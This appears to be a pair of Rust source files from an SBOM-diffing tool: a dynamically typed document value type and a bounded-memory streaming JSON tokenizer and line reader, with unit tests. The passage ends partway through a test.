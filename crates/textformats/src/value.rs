//! A dynamically-typed document value shared by the JSON, TOML and YAML
//! parsers. Object key order is preserved (lockfiles are order-sensitive for
//! reporting).

use std::fmt;

/// A parsed document value.
#[derive(Debug, Clone, PartialEq, Default)]
pub enum Value {
    /// `null` / `~` / missing.
    #[default]
    Null,
    /// Boolean.
    Bool(bool),
    /// Numeric (all numbers are held as `f64`; see [`Value::as_i64`]).
    Num(f64),
    /// String.
    Str(String),
    /// Array / sequence.
    Array(Vec<Value>),
    /// Object / mapping with preserved key order.
    Object(Vec<(String, Value)>),
}

impl Value {
    /// An empty object.
    pub fn object() -> Value {
        Value::Object(Vec::new())
    }

    /// Looks up a key in an object value.
    pub fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Object(entries) => entries.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// Indexes into an array value.
    pub fn idx(&self, i: usize) -> Option<&Value> {
        match self {
            Value::Array(items) => items.get(i),
            _ => None,
        }
    }

    /// Walks a `/`-separated path of object keys and array indices.
    ///
    /// ```
    /// use sbomdiff_textformats::{json, Value};
    /// let v = json::parse(r#"{"a": {"b": [10, 20]}}"#).unwrap();
    /// assert_eq!(v.pointer("a/b/1").and_then(Value::as_i64), Some(20));
    /// ```
    pub fn pointer(&self, path: &str) -> Option<&Value> {
        let mut cur = self;
        for part in path.split('/') {
            if part.is_empty() {
                continue;
            }
            cur = match cur {
                Value::Object(_) => cur.get(part)?,
                Value::Array(_) => cur.idx(part.parse().ok()?)?,
                _ => return None,
            };
        }
        Some(cur)
    }

    /// String view.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Bool view.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// Floating-point view.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Num(n) => Some(*n),
            _ => None,
        }
    }

    /// Integer view (numbers with no fractional part).
    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::Num(n) if n.fract() == 0.0 && n.is_finite() => Some(*n as i64),
            _ => None,
        }
    }

    /// Array view.
    pub fn as_array(&self) -> Option<&[Value]> {
        match self {
            Value::Array(items) => Some(items),
            _ => None,
        }
    }

    /// Object-entries view.
    pub fn as_object(&self) -> Option<&[(String, Value)]> {
        match self {
            Value::Object(entries) => Some(entries),
            _ => None,
        }
    }

    /// Mutable object-entries view.
    pub fn as_object_mut(&mut self) -> Option<&mut Vec<(String, Value)>> {
        match self {
            Value::Object(entries) => Some(entries),
            _ => None,
        }
    }

    /// Inserts or replaces a key in an object value (no-op on non-objects).
    pub fn set(&mut self, key: impl Into<String>, value: Value) {
        if let Value::Object(entries) = self {
            let key = key.into();
            if let Some(slot) = entries.iter_mut().find(|(k, _)| *k == key) {
                slot.1 = value;
            } else {
                entries.push((key, value));
            }
        }
    }

    /// True when this is `Value::Null`.
    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }
}

impl From<&str> for Value {
    fn from(s: &str) -> Self {
        Value::Str(s.to_string())
    }
}

impl From<String> for Value {
    fn from(s: String) -> Self {
        Value::Str(s)
    }
}

impl From<bool> for Value {
    fn from(b: bool) -> Self {
        Value::Bool(b)
    }
}

impl From<i64> for Value {
    fn from(n: i64) -> Self {
        Value::Num(n as f64)
    }
}

impl From<f64> for Value {
    fn from(n: f64) -> Self {
        Value::Num(n)
    }
}

impl<V: Into<Value>> FromIterator<(String, V)> for Value {
    fn from_iter<T: IntoIterator<Item = (String, V)>>(iter: T) -> Self {
        Value::Object(iter.into_iter().map(|(k, v)| (k, v.into())).collect())
    }
}

impl<V: Into<Value>> FromIterator<V> for Value {
    fn from_iter<T: IntoIterator<Item = V>>(iter: T) -> Self {
        Value::Array(iter.into_iter().map(Into::into).collect())
    }
}

impl fmt::Display for Value {
    /// Displays as compact JSON.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&crate::json::to_string(self))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn get_and_idx() {
        let v = Value::Object(vec![
            ("a".into(), Value::from(1i64)),
            ("b".into(), Value::Array(vec![Value::from("x")])),
        ]);
        assert_eq!(v.get("a").and_then(Value::as_i64), Some(1));
        assert_eq!(
            v.get("b").and_then(|b| b.idx(0)).and_then(Value::as_str),
            Some("x")
        );
        assert!(v.get("missing").is_none());
        assert!(Value::Null.get("a").is_none());
    }

    #[test]
    fn pointer_walks_mixed_paths() {
        let v: Value = vec![("k".to_string(), Value::Array(vec![Value::from(5i64)]))]
            .into_iter()
            .collect();
        assert_eq!(v.pointer("k/0").and_then(Value::as_i64), Some(5));
        assert!(v.pointer("k/1").is_none());
        assert!(v.pointer("k/x").is_none());
    }

    #[test]
    fn set_replaces_and_inserts() {
        let mut v = Value::object();
        v.set("a", Value::from(1i64));
        v.set("a", Value::from(2i64));
        v.set("b", Value::from(3i64));
        assert_eq!(v.get("a").and_then(Value::as_i64), Some(2));
        assert_eq!(v.as_object().unwrap().len(), 2);
    }

    #[test]
    fn as_i64_rejects_fractions() {
        assert_eq!(Value::Num(2.5).as_i64(), None);
        assert_eq!(Value::Num(3.0).as_i64(), Some(3));
        assert_eq!(Value::Num(f64::NAN).as_i64(), None);
    }

    #[test]
    fn key_order_is_preserved() {
        let mut v = Value::object();
        for k in ["z", "a", "m"] {
            v.set(k, Value::Null);
        }
        let keys: Vec<&str> = v
            .as_object()
            .unwrap()
            .iter()
            .map(|(k, _)| k.as_str())
            .collect();
        assert_eq!(keys, vec!["z", "a", "m"]);
    }
}

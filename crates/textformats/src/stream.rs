//! Incremental, pull-based readers over any [`io::Read`].
//!
//! The in-memory parsers in this crate materialize a full [`crate::Value`]
//! tree — fine for lockfiles, hopeless for externally generated SBOMs that
//! can run to hundreds of megabytes. This module is the bounded-memory
//! alternative: a [`ChunkSource`] refills one fixed-size buffer from the
//! underlying reader, and [`JsonStream`] / [`LineReader`] tokenize out of
//! that window, so peak buffering is `chunk size + largest single token`
//! regardless of document size.
//!
//! Design rules, enforced by the corruption suite one layer up:
//!
//! * **Never panic.** Every malformed byte sequence maps to a typed
//!   [`StreamError`] with a line and byte offset.
//! * **Hard allocation bound.** No token (string, number, line) may exceed
//!   [`MAX_TOKEN`] bytes; nesting is capped at [`MAX_DEPTH`]. Both caps are
//!   classified errors, not aborts. [`ChunkSource::peak_buffered`] reports
//!   the high-water mark so tests can assert the bound.
//! * **Chunk-boundary transparent.** Tokens (including `\u` escapes and
//!   multi-byte UTF-8 sequences) may straddle any chunk boundary.

use std::fmt;
use std::io::Read;

/// Default refill size for [`ChunkSource`]: 64 KiB.
pub const DEFAULT_CHUNK: usize = 64 * 1024;

/// Hard cap on one token's byte length (strings, numbers, lines). A
/// pathological 100 MB string is rejected after buffering at most this
/// much of it.
pub const MAX_TOKEN: usize = 1 << 20;

/// Hard cap on container nesting depth for [`JsonStream`].
pub const MAX_DEPTH: usize = 96;

/// Why a streaming read failed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StreamErrorKind {
    /// Bytes that violate the grammar.
    Syntax,
    /// The input ended mid-token or mid-container.
    UnexpectedEof,
    /// Bytes that are not valid UTF-8 where text was required.
    Utf8,
    /// Nesting beyond [`MAX_DEPTH`].
    DepthExceeded,
    /// A single token longer than [`MAX_TOKEN`].
    TokenTooLong,
    /// The underlying reader failed.
    Io,
}

/// A typed streaming-parse error with position information.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StreamError {
    kind: StreamErrorKind,
    line: usize,
    byte_offset: u64,
    message: String,
}

impl StreamError {
    /// Creates an error at an explicit position (for layers above the
    /// tokenizer that detect structural problems the grammar allows).
    pub fn new(
        kind: StreamErrorKind,
        line: usize,
        byte_offset: u64,
        message: impl Into<String>,
    ) -> Self {
        StreamError {
            kind,
            line,
            byte_offset,
            message: message.into(),
        }
    }

    /// The classified failure kind.
    pub fn kind(&self) -> StreamErrorKind {
        self.kind
    }

    /// 1-based line of the failure.
    pub fn line(&self) -> usize {
        self.line
    }

    /// Byte offset of the failure within the document.
    pub fn byte_offset(&self) -> u64 {
        self.byte_offset
    }

    /// The error message (position excluded).
    pub fn message(&self) -> &str {
        &self.message
    }
}

impl fmt::Display for StreamError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "line {}, byte {}: {}",
            self.line, self.byte_offset, self.message
        )
    }
}

impl std::error::Error for StreamError {}

/// A fixed-size sliding window over an [`io::Read`].
///
/// All reads go through one `chunk_size` buffer; [`ChunkSource::peak_buffered`]
/// reports `chunk_size` plus the largest scratch (token) buffer any consumer
/// reported, giving the bounded-memory guarantee a measurable witness.
pub struct ChunkSource<R> {
    inner: R,
    buf: Vec<u8>,
    start: usize,
    len: usize,
    eof: bool,
    consumed: u64,
    line: usize,
    chunk_size: usize,
    peak_scratch: usize,
}

impl<R: Read> ChunkSource<R> {
    /// A source refilling in [`DEFAULT_CHUNK`]-byte chunks.
    pub fn new(inner: R) -> Self {
        ChunkSource::with_chunk_size(inner, DEFAULT_CHUNK)
    }

    /// A source with an explicit chunk size (clamped to `[512, 8 MiB]`).
    pub fn with_chunk_size(inner: R, chunk_size: usize) -> Self {
        let chunk_size = chunk_size.clamp(512, 8 << 20);
        ChunkSource {
            inner,
            buf: vec![0u8; chunk_size],
            start: 0,
            len: 0,
            eof: false,
            consumed: 0,
            line: 1,
            chunk_size,
            peak_scratch: 0,
        }
    }

    /// Total bytes consumed so far.
    pub fn bytes_read(&self) -> u64 {
        self.consumed
    }

    /// 1-based line number at the current position.
    pub fn line(&self) -> usize {
        self.line
    }

    /// High-water mark of buffered bytes: the chunk window plus the
    /// largest token scratch any tokenizer reported via
    /// [`ChunkSource::note_scratch`].
    pub fn peak_buffered(&self) -> usize {
        self.chunk_size + self.peak_scratch
    }

    /// Records a consumer-side scratch-buffer size for peak accounting.
    pub fn note_scratch(&mut self, len: usize) {
        if len > self.peak_scratch {
            self.peak_scratch = len;
        }
    }

    fn err(&self, kind: StreamErrorKind, message: impl Into<String>) -> StreamError {
        StreamError {
            kind,
            line: self.line,
            byte_offset: self.consumed,
            message: message.into(),
        }
    }

    fn fill(&mut self) -> Result<(), StreamError> {
        if self.start < self.len || self.eof {
            return Ok(());
        }
        self.start = 0;
        self.len = 0;
        loop {
            match self.inner.read(&mut self.buf) {
                Ok(0) => {
                    self.eof = true;
                    return Ok(());
                }
                Ok(n) => {
                    self.len = n;
                    return Ok(());
                }
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(self.err(StreamErrorKind::Io, format!("read failed: {e}"))),
            }
        }
    }

    /// The next byte without consuming it (`None` at EOF).
    ///
    /// # Errors
    ///
    /// Returns an [`StreamErrorKind::Io`] error when the reader fails.
    pub fn peek(&mut self) -> Result<Option<u8>, StreamError> {
        self.fill()?;
        if self.start < self.len {
            Ok(Some(self.buf[self.start]))
        } else {
            Ok(None)
        }
    }

    /// Consumes and returns the next byte (`None` at EOF).
    ///
    /// # Errors
    ///
    /// Returns an [`StreamErrorKind::Io`] error when the reader fails.
    pub fn next_byte(&mut self) -> Result<Option<u8>, StreamError> {
        self.fill()?;
        if self.start < self.len {
            let b = self.buf[self.start];
            self.start += 1;
            self.consumed += 1;
            if b == b'\n' {
                self.line += 1;
            }
            Ok(Some(b))
        } else {
            Ok(None)
        }
    }

    /// The currently buffered, unconsumed window (may be empty even before
    /// EOF; call [`ChunkSource::peek`] first to force a refill).
    fn window(&self) -> &[u8] {
        &self.buf[self.start..self.len]
    }

    /// Consumes `n` bytes from the current window (caller guarantees
    /// `n <= window().len()`), maintaining line accounting.
    fn advance(&mut self, n: usize) {
        let slice = &self.buf[self.start..self.start + n];
        self.line += slice.iter().filter(|&&b| b == b'\n').count();
        self.start += n;
        self.consumed += n as u64;
    }
}

/// One JSON syntax event produced by [`JsonStream`].
#[derive(Debug, Clone, PartialEq)]
pub enum JsonEvent {
    /// `{`
    ObjectStart,
    /// `}`
    ObjectEnd,
    /// `[`
    ArrayStart,
    /// `]`
    ArrayEnd,
    /// An object key (the following event is its value).
    Key(String),
    /// A string value.
    Str(String),
    /// A number value.
    Num(f64),
    /// A boolean value.
    Bool(bool),
    /// `null`
    Null,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Container {
    Object,
    Array,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// A value (top level, after a key, or after `,` in an array).
    Value,
    /// First key or `}` right after `{`.
    KeyOrEnd,
    /// A key right after `,` inside an object.
    Key,
    /// First value or `]` right after `[`.
    ValueOrEnd,
    /// `,` or the container close after a completed value.
    CommaOrEnd,
    /// Only trailing whitespace remains.
    End,
}

/// A pull-based JSON tokenizer (RFC 8259) over a [`ChunkSource`].
///
/// Emits a flat stream of [`JsonEvent`]s; the caller reconstructs exactly
/// the subtrees it cares about and skips the rest, so memory stays bounded
/// by [`ChunkSource::peak_buffered`] no matter how large the document is.
pub struct JsonStream<R> {
    src: ChunkSource<R>,
    stack: Vec<Container>,
    expect: Expect,
    scratch: Vec<u8>,
}

impl<R: Read> JsonStream<R> {
    /// A stream with the default chunk size.
    pub fn new(inner: R) -> Self {
        JsonStream::from_source(ChunkSource::new(inner))
    }

    /// A stream over an already-constructed source (keeps any bytes the
    /// caller peeked for format sniffing).
    pub fn from_source(src: ChunkSource<R>) -> Self {
        JsonStream {
            src,
            stack: Vec::new(),
            expect: Expect::Value,
            scratch: Vec::new(),
        }
    }

    /// Total bytes consumed so far.
    pub fn bytes_read(&self) -> u64 {
        self.src.bytes_read()
    }

    /// 1-based current line.
    pub fn line(&self) -> usize {
        self.src.line()
    }

    /// Peak buffered bytes (window + largest token).
    pub fn peak_buffered(&self) -> usize {
        self.src.peak_buffered()
    }

    /// Current container nesting depth.
    pub fn depth(&self) -> usize {
        self.stack.len()
    }

    fn err(&self, kind: StreamErrorKind, message: impl Into<String>) -> StreamError {
        self.src.err(kind, message)
    }

    fn skip_ws(&mut self) -> Result<(), StreamError> {
        loop {
            match self.src.peek()? {
                Some(b' ' | b'\t' | b'\n' | b'\r') => {
                    self.src.next_byte()?;
                }
                _ => return Ok(()),
            }
        }
    }

    /// The next event, or `None` once the document completed cleanly.
    ///
    /// After the first `None` (or any error) the stream stays finished.
    ///
    /// # Errors
    ///
    /// Returns a typed [`StreamError`] on malformed input, EOF inside a
    /// token or container, depth/token-length cap violations, invalid
    /// UTF-8, or reader failure.
    pub fn next_event(&mut self) -> Result<Option<JsonEvent>, StreamError> {
        self.skip_ws()?;
        match self.expect {
            Expect::End => match self.src.peek()? {
                None => Ok(None),
                Some(_) => Err(self.err(
                    StreamErrorKind::Syntax,
                    "trailing characters after document",
                )),
            },
            Expect::Value | Expect::ValueOrEnd => {
                if self.expect == Expect::ValueOrEnd && self.src.peek()? == Some(b']') {
                    self.src.next_byte()?;
                    return self.close(Container::Array).map(Some);
                }
                self.value().map(Some)
            }
            Expect::KeyOrEnd | Expect::Key => {
                match self.src.peek()? {
                    Some(b'}') if self.expect == Expect::KeyOrEnd => {
                        self.src.next_byte()?;
                        return self.close(Container::Object).map(Some);
                    }
                    Some(b'"') => {}
                    Some(_) => return Err(self.err(StreamErrorKind::Syntax, "expected string key")),
                    None => {
                        return Err(self.err(
                            StreamErrorKind::UnexpectedEof,
                            "unexpected end of input inside object",
                        ))
                    }
                }
                let key = self.string()?;
                self.skip_ws()?;
                match self.src.peek()? {
                    Some(b':') => {
                        self.src.next_byte()?;
                    }
                    Some(_) => return Err(self.err(StreamErrorKind::Syntax, "expected ':'")),
                    None => {
                        return Err(self.err(
                            StreamErrorKind::UnexpectedEof,
                            "unexpected end of input after key",
                        ))
                    }
                }
                self.expect = Expect::Value;
                Ok(Some(JsonEvent::Key(key)))
            }
            Expect::CommaOrEnd => {
                let top = match self.stack.last() {
                    Some(&top) => top,
                    None => {
                        // Value complete at top level: only whitespace may
                        // remain.
                        self.expect = Expect::End;
                        return self.next_event();
                    }
                };
                match (self.src.peek()?, top) {
                    (Some(b','), Container::Object) => {
                        self.src.next_byte()?;
                        self.expect = Expect::Key;
                        self.next_event()
                    }
                    (Some(b','), Container::Array) => {
                        self.src.next_byte()?;
                        self.expect = Expect::Value;
                        self.next_event()
                    }
                    (Some(b'}'), Container::Object) => {
                        self.src.next_byte()?;
                        self.close(Container::Object).map(Some)
                    }
                    (Some(b']'), Container::Array) => {
                        self.src.next_byte()?;
                        self.close(Container::Array).map(Some)
                    }
                    (Some(_), Container::Object) => {
                        Err(self.err(StreamErrorKind::Syntax, "expected ',' or '}'"))
                    }
                    (Some(_), Container::Array) => {
                        Err(self.err(StreamErrorKind::Syntax, "expected ',' or ']'"))
                    }
                    (None, _) => Err(self.err(
                        StreamErrorKind::UnexpectedEof,
                        "unexpected end of input inside container",
                    )),
                }
            }
        }
    }

    fn close(&mut self, expected: Container) -> Result<JsonEvent, StreamError> {
        // The caller only reaches here from states where the top matches.
        debug_assert_eq!(self.stack.last(), Some(&expected));
        self.stack.pop();
        self.expect = Expect::CommaOrEnd;
        Ok(match expected {
            Container::Object => JsonEvent::ObjectEnd,
            Container::Array => JsonEvent::ArrayEnd,
        })
    }

    fn value(&mut self) -> Result<JsonEvent, StreamError> {
        match self.src.peek()? {
            Some(b'{') => {
                self.src.next_byte()?;
                if self.stack.len() >= MAX_DEPTH {
                    return Err(self.err(
                        StreamErrorKind::DepthExceeded,
                        "maximum nesting depth exceeded",
                    ));
                }
                self.stack.push(Container::Object);
                self.expect = Expect::KeyOrEnd;
                Ok(JsonEvent::ObjectStart)
            }
            Some(b'[') => {
                self.src.next_byte()?;
                if self.stack.len() >= MAX_DEPTH {
                    return Err(self.err(
                        StreamErrorKind::DepthExceeded,
                        "maximum nesting depth exceeded",
                    ));
                }
                self.stack.push(Container::Array);
                self.expect = Expect::ValueOrEnd;
                Ok(JsonEvent::ArrayStart)
            }
            Some(b'"') => {
                let s = self.string()?;
                self.expect = Expect::CommaOrEnd;
                Ok(JsonEvent::Str(s))
            }
            Some(b't') => self.literal("true", JsonEvent::Bool(true)),
            Some(b'f') => self.literal("false", JsonEvent::Bool(false)),
            Some(b'n') => self.literal("null", JsonEvent::Null),
            Some(b) if b == b'-' || b.is_ascii_digit() => self.number(),
            Some(_) => Err(self.err(StreamErrorKind::Syntax, "unexpected character")),
            None => Err(self.err(StreamErrorKind::UnexpectedEof, "unexpected end of input")),
        }
    }

    fn literal(&mut self, text: &str, event: JsonEvent) -> Result<JsonEvent, StreamError> {
        for expected in text.bytes() {
            match self.src.next_byte()? {
                Some(b) if b == expected => {}
                Some(_) => return Err(self.err(StreamErrorKind::Syntax, "invalid literal")),
                None => {
                    return Err(self.err(
                        StreamErrorKind::UnexpectedEof,
                        "unexpected end of input in literal",
                    ))
                }
            }
        }
        self.expect = Expect::CommaOrEnd;
        Ok(event)
    }

    fn number(&mut self) -> Result<JsonEvent, StreamError> {
        self.scratch.clear();
        if self.src.peek()? == Some(b'-') {
            self.src.next_byte()?;
            self.scratch.push(b'-');
        }
        while let Some(b) = self.src.peek()? {
            if b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'+' | b'-') {
                self.src.next_byte()?;
                self.scratch.push(b);
                if self.scratch.len() > MAX_TOKEN {
                    return Err(self.err(StreamErrorKind::TokenTooLong, "number token too long"));
                }
            } else {
                break;
            }
        }
        self.src.note_scratch(self.scratch.len());
        let text = std::str::from_utf8(&self.scratch)
            .map_err(|_| self.err(StreamErrorKind::Utf8, "invalid utf-8 in number"))?;
        let n: f64 = text
            .parse()
            .map_err(|_| self.err(StreamErrorKind::Syntax, "invalid number"))?;
        self.expect = Expect::CommaOrEnd;
        Ok(JsonEvent::Num(n))
    }

    /// Parses a string token; the opening quote is at the current position.
    fn string(&mut self) -> Result<String, StreamError> {
        self.src.next_byte()?; // opening '"'
        self.scratch.clear();
        loop {
            self.src.note_scratch(self.scratch.len());
            if self.scratch.len() > MAX_TOKEN {
                return Err(self.err(
                    StreamErrorKind::TokenTooLong,
                    format!("string token exceeds {MAX_TOKEN} bytes"),
                ));
            }
            // Bulk-copy the run up to the next quote, escape or control
            // byte inside the current window, capped so the scratch buffer
            // overshoots MAX_TOKEN by at most one byte; multi-byte
            // sequences may straddle the window edge, so UTF-8 validation
            // happens once at token end.
            self.src.fill()?;
            let window = self.src.window();
            if !window.is_empty() {
                let run = window
                    .iter()
                    .position(|&b| b == b'"' || b == b'\\' || b < 0x20)
                    .unwrap_or(window.len())
                    .min(MAX_TOKEN + 1 - self.scratch.len());
                if run > 0 {
                    self.scratch.extend_from_slice(&window[..run]);
                    self.src.advance(run);
                    continue;
                }
            }
            match self.src.next_byte()? {
                None => return Err(self.err(StreamErrorKind::UnexpectedEof, "unterminated string")),
                Some(b'"') => break,
                Some(b'\\') => self.escape()?,
                Some(b) if b < 0x20 => {
                    return Err(self.err(StreamErrorKind::Syntax, "control character in string"))
                }
                // Unreachable: the bulk run consumed everything else.
                Some(b) => self.scratch.push(b),
            }
        }
        self.src.note_scratch(self.scratch.len());
        String::from_utf8(std::mem::take(&mut self.scratch))
            .map_err(|_| self.err(StreamErrorKind::Utf8, "invalid utf-8 in string"))
    }

    fn push_char(&mut self, c: char) {
        let mut buf = [0u8; 4];
        self.scratch
            .extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
    }

    fn escape(&mut self) -> Result<(), StreamError> {
        match self.src.next_byte()? {
            Some(b'"') => self.scratch.push(b'"'),
            Some(b'\\') => self.scratch.push(b'\\'),
            Some(b'/') => self.scratch.push(b'/'),
            Some(b'b') => self.scratch.push(0x08),
            Some(b'f') => self.scratch.push(0x0c),
            Some(b'n') => self.scratch.push(b'\n'),
            Some(b'r') => self.scratch.push(b'\r'),
            Some(b't') => self.scratch.push(b'\t'),
            Some(b'u') => self.unicode_escape()?,
            Some(_) => return Err(self.err(StreamErrorKind::Syntax, "invalid escape")),
            None => {
                return Err(self.err(
                    StreamErrorKind::UnexpectedEof,
                    "unexpected end of input in escape",
                ))
            }
        }
        Ok(())
    }

    /// Handles `\uXXXX` (the `\u` is already consumed), mirroring the
    /// in-memory parser exactly: a high surrogate pairs with a following
    /// `\uXXXX` low surrogate; a following `\u` escape that is *not* a
    /// low surrogate leaves a single U+FFFD for the lone high surrogate
    /// and then decodes on its own (it may itself open a new pair); lone
    /// high and unpaired low surrogates degrade to U+FFFD. The stream
    /// cannot rewind, so the "reprocess the second escape" step of the
    /// in-memory parser becomes the loop here.
    fn unicode_escape(&mut self) -> Result<(), StreamError> {
        let mut n = self.hex4()?;
        loop {
            if !(0xD800..0xDC00).contains(&n) {
                // BMP character, or an unpaired low surrogate (U+FFFD).
                self.push_char(char::from_u32(n).unwrap_or('\u{FFFD}'));
                return Ok(());
            }
            if self.src.peek()? != Some(b'\\') {
                self.push_char('\u{FFFD}');
                return Ok(());
            }
            self.src.next_byte()?; // '\\'
            if self.src.peek()? != Some(b'u') {
                // A pending non-\u escape after the lone surrogate: emit the
                // replacement first, then process the escape normally.
                self.push_char('\u{FFFD}');
                return self.escape();
            }
            self.src.next_byte()?; // 'u'
            let n2 = self.hex4()?;
            if (0xDC00..0xE000).contains(&n2) {
                let cp = 0x10000 + ((n - 0xD800) << 10) + (n2 - 0xDC00);
                self.push_char(char::from_u32(cp).unwrap_or('\u{FFFD}'));
                return Ok(());
            }
            // Not a low surrogate: the first escape was a lone high
            // surrogate; the second becomes the new candidate.
            self.push_char('\u{FFFD}');
            n = n2;
        }
    }

    fn hex4(&mut self) -> Result<u32, StreamError> {
        let mut n = 0u32;
        for _ in 0..4 {
            let digit = match self.src.next_byte()? {
                Some(b) => (b as char).to_digit(16),
                None => {
                    return Err(self.err(StreamErrorKind::UnexpectedEof, "truncated \\u escape"))
                }
            };
            match digit {
                Some(d) => n = n * 16 + d,
                None => return Err(self.err(StreamErrorKind::Syntax, "invalid \\u escape")),
            }
        }
        Ok(n)
    }
}

/// A bounded-memory line reader over a [`ChunkSource`], for line-oriented
/// formats (SPDX tag-value). Lines are returned without their terminator;
/// `\r\n` and `\n` both end a line. A line longer than [`MAX_TOKEN`] is a
/// [`StreamErrorKind::TokenTooLong`] error, and non-UTF-8 lines are
/// [`StreamErrorKind::Utf8`] errors.
pub struct LineReader<R> {
    src: ChunkSource<R>,
    scratch: Vec<u8>,
}

impl<R: Read> LineReader<R> {
    /// A reader with the default chunk size.
    pub fn new(inner: R) -> Self {
        LineReader::from_source(ChunkSource::new(inner))
    }

    /// A reader over an already-constructed source (keeps bytes the caller
    /// peeked for format sniffing).
    pub fn from_source(src: ChunkSource<R>) -> Self {
        LineReader {
            src,
            scratch: Vec::new(),
        }
    }

    /// Total bytes consumed so far.
    pub fn bytes_read(&self) -> u64 {
        self.src.bytes_read()
    }

    /// 1-based line number of the *next* line to be returned.
    pub fn line(&self) -> usize {
        self.src.line()
    }

    /// Peak buffered bytes (window + largest line).
    pub fn peak_buffered(&self) -> usize {
        self.src.peak_buffered()
    }

    /// The next line, or `None` at EOF.
    ///
    /// # Errors
    ///
    /// Returns a typed [`StreamError`] on over-long lines, invalid UTF-8,
    /// or reader failure.
    pub fn next_line(&mut self) -> Result<Option<String>, StreamError> {
        if self.src.peek()?.is_none() {
            return Ok(None);
        }
        self.scratch.clear();
        loop {
            self.src.note_scratch(self.scratch.len());
            if self.scratch.len() > MAX_TOKEN {
                return Err(self.src.err(
                    StreamErrorKind::TokenTooLong,
                    format!("line exceeds {MAX_TOKEN} bytes"),
                ));
            }
            self.src.fill()?;
            let window = self.src.window();
            if window.is_empty() {
                if self.src.peek()?.is_none() {
                    break; // final line without terminator
                }
                continue;
            }
            match window
                .iter()
                .position(|&b| b == b'\n')
                .map(|p| p.min(MAX_TOKEN + 1 - self.scratch.len()))
            {
                Some(pos) if pos + self.scratch.len() <= MAX_TOKEN => {
                    self.scratch.extend_from_slice(&window[..pos]);
                    self.src.advance(pos + 1); // consume the '\n' too
                    break;
                }
                _ => {
                    let take = window.len().min(MAX_TOKEN + 1 - self.scratch.len());
                    self.scratch.extend_from_slice(&window[..take]);
                    self.src.advance(take);
                }
            }
        }
        if self.scratch.last() == Some(&b'\r') {
            self.scratch.pop();
        }
        self.src.note_scratch(self.scratch.len());
        let line = String::from_utf8(std::mem::take(&mut self.scratch))
            .map_err(|_| self.src.err(StreamErrorKind::Utf8, "invalid utf-8 in line"))?;
        Ok(Some(line))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn events(input: &str) -> Result<Vec<JsonEvent>, StreamError> {
        events_chunked(input, DEFAULT_CHUNK)
    }

    fn events_chunked(input: &str, chunk: usize) -> Result<Vec<JsonEvent>, StreamError> {
        let src = ChunkSource::with_chunk_size(input.as_bytes(), chunk);
        let mut stream = JsonStream::from_source(src);
        let mut out = Vec::new();
        while let Some(ev) = stream.next_event()? {
            out.push(ev);
        }
        Ok(out)
    }

    #[test]
    fn tokenizes_scalars() {
        assert_eq!(events("null").unwrap(), vec![JsonEvent::Null]);
        assert_eq!(events("true").unwrap(), vec![JsonEvent::Bool(true)]);
        assert_eq!(events("-1.5e2").unwrap(), vec![JsonEvent::Num(-150.0)]);
        assert_eq!(
            events(r#""hi""#).unwrap(),
            vec![JsonEvent::Str("hi".into())]
        );
    }

    #[test]
    fn tokenizes_nested_document() {
        let evs = events(r#"{"a": [1, {"b": null}], "c": "x"}"#).unwrap();
        assert_eq!(
            evs,
            vec![
                JsonEvent::ObjectStart,
                JsonEvent::Key("a".into()),
                JsonEvent::ArrayStart,
                JsonEvent::Num(1.0),
                JsonEvent::ObjectStart,
                JsonEvent::Key("b".into()),
                JsonEvent::Null,
                JsonEvent::ObjectEnd,
                JsonEvent::ArrayEnd,
                JsonEvent::Key("c".into()),
                JsonEvent::Str("x".into()),
                JsonEvent::ObjectEnd,
            ]
        );
    }

    #[test]
    fn chunk_boundaries_are_transparent() {
        let doc = r#"{"name": "héllo wörld ✓ 😀", "n": 12345, "esc": "aéb😀c"}"#;
        let want = events(doc).unwrap();
        // Chunk size is clamped to >= 512, so pad the document so tokens
        // really do straddle refills.
        let pad = "x".repeat(700);
        let padded = format!(r#"{{"pad": "{pad}", "inner": {doc}}}"#);
        let a = events_chunked(&padded, 512).unwrap();
        let b = events_chunked(&padded, 8192).unwrap();
        assert_eq!(a, b);
        // Events: ObjectStart, Key(pad), Str(pad), Key(inner), <inner doc>.
        assert_eq!(&a[4..4 + want.len()], &want[..]);
    }

    #[test]
    fn escape_semantics_match_in_memory_parser() {
        let cases = [
            (r#""line\nquote\" tab\t""#, "line\nquote\" tab\t"),
            (r#""Aé中""#, "Aé中"),
            (r#""😀""#, "😀"),
            (r#""\ud83d""#, "\u{FFFD}"),
            (r#""\ud83dx""#, "\u{FFFD}x"),
            (r#""\ud83dA""#, "\u{FFFD}A"),
            (r#""\ud83d\n""#, "\u{FFFD}\n"),
            // Valid escaped surrogate pair.
            ("\"\\ud83d\\ude00\"", "\u{1F600}"),
            // A high surrogate followed by a BMP escape: the escape
            // survives instead of being swallowed with the surrogate.
            ("\"\\ud83d\\u0041\"", "\u{FFFD}A"),
            // A second high surrogate restarts pair matching.
            ("\"\\ud83d\\ud83d\\ude00\"", "\u{FFFD}\u{1F600}"),
            // Unpaired low surrogate.
            ("\"\\ude00\"", "\u{FFFD}"),
            ("\"a\\ude00\\ud83db\"", "a\u{FFFD}\u{FFFD}b"),
        ];
        for (doc, want) in cases {
            let evs = events(doc).unwrap();
            assert_eq!(evs, vec![JsonEvent::Str(want.into())], "{doc}");
            // Cross-check against the in-memory parser.
            let v = crate::json::parse(doc).unwrap();
